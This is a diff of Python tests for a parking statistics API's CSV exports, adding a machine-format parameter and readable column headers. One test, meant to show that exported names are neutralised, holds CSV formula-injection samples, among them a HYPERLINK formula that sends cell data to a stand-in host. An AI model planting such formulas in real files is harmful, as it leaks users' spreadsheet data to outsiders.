@@ -186,14 +186,14 @@ def test_the_csv_equals_the_json_answer(client, auth, carol, ask, busy):
     stats = ask(WEEK).json["stats"]
     days = table(ask(WEEK, Accept="text/csv"))
     assert [float(day["revenue_EUR"]) for day in days] == [day["revenue"] for day in stats["days"]]
-    assert days == table(client.get(f"/api/stats/admin.csv?{WEEK}&table=days", headers=auth(carol)))
-    lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&table=lots", headers=auth(carol)))
+    assert days == table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=days", headers=auth(carol)))
+    lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=lots", headers=auth(carol)))
     assert [(lot["name"], float(lot["revenue_EUR"])) for lot in lots] == [("Harbour", 21.26)]
-    figures = table(client.get(f"/api/stats/admin.csv?{WEEK}&table=figures", headers=auth(carol)))
+    figures = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=figures", headers=auth(carol)))
     assert {one["name"]: one["value"] for one in figures}["bookings"] == "5"
-    hours = table(client.get(f"/api/stats/admin.csv?{WEEK}&table=hours", headers=auth(carol)))
+    hours = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=hours", headers=auth(carol)))
     assert len(hours) == 168
-    stays = table(client.get(f"/api/stats/admin.csv?{WEEK}&table=stays", headers=auth(carol)))
+    stays = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=stays", headers=auth(carol)))
     assert sum(int(bar["count"]) for bar in stays) == 3
     curve = client.get("/api/stats/admin.csv?from=2026-02-26&to=2026-02-26&table=curve", headers=auth(carol))
     assert len(table(curve)) == 48
@@ -203,7 +203,7 @@ def test_a_name_that_a_spreadsheet_would_run_stays_text(client, auth, carol, bus
     behind = 'Süd;=HYPERLINK("http://x.example/?"&A1;"open")'
     for name in ("=HYPERLINK(1)", behind, "Ost\t@SUM(A1)"):
         world.make_lot(name, "UTC", 1, utc("2026-02-20T00:00"))
-    lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&table=lots", headers=auth(carol)))
+    lots = table(client.get(f"/api/stats/admin.csv?{WEEK}&format=machine&table=lots", headers=auth(carol)))
     safe = {"'=HYPERLINK(1)", behind.replace(";=", ";'="), "Ost\t'@SUM(A1)"}
     assert safe <= {lot["name"] for lot in lots}
 
@@ -216,7 +216,7 @@ def test_a_users_month(client, auth, alice, bob, busy):
     assert (hers["visits"], hers["spent"]) == (1, 11.25)  # the no-show cost, the cancellation did not
     rows = table(client.get("/api/stats/user.csv?month=2026-02", headers=auth(alice)))
     assert rows == [
-        {"lot_id": str(busy), "name": "Harbour", "visits": "1", "parked_seconds": "9000", "spent_EUR": "11.25"}
+        {"Lot ID": str(busy), "Name": "Harbour", "Visits": "1", "Parked (seconds)": "9000", "Spent (EUR)": "11.25"}
     ]
     assert client.get("/api/stats/user", headers=auth(bob)).json["stats"]["month"] == "2026-03"
     assert client.get("/api/stats/user?month=2026-13", headers=auth(bob)).status_code == 422
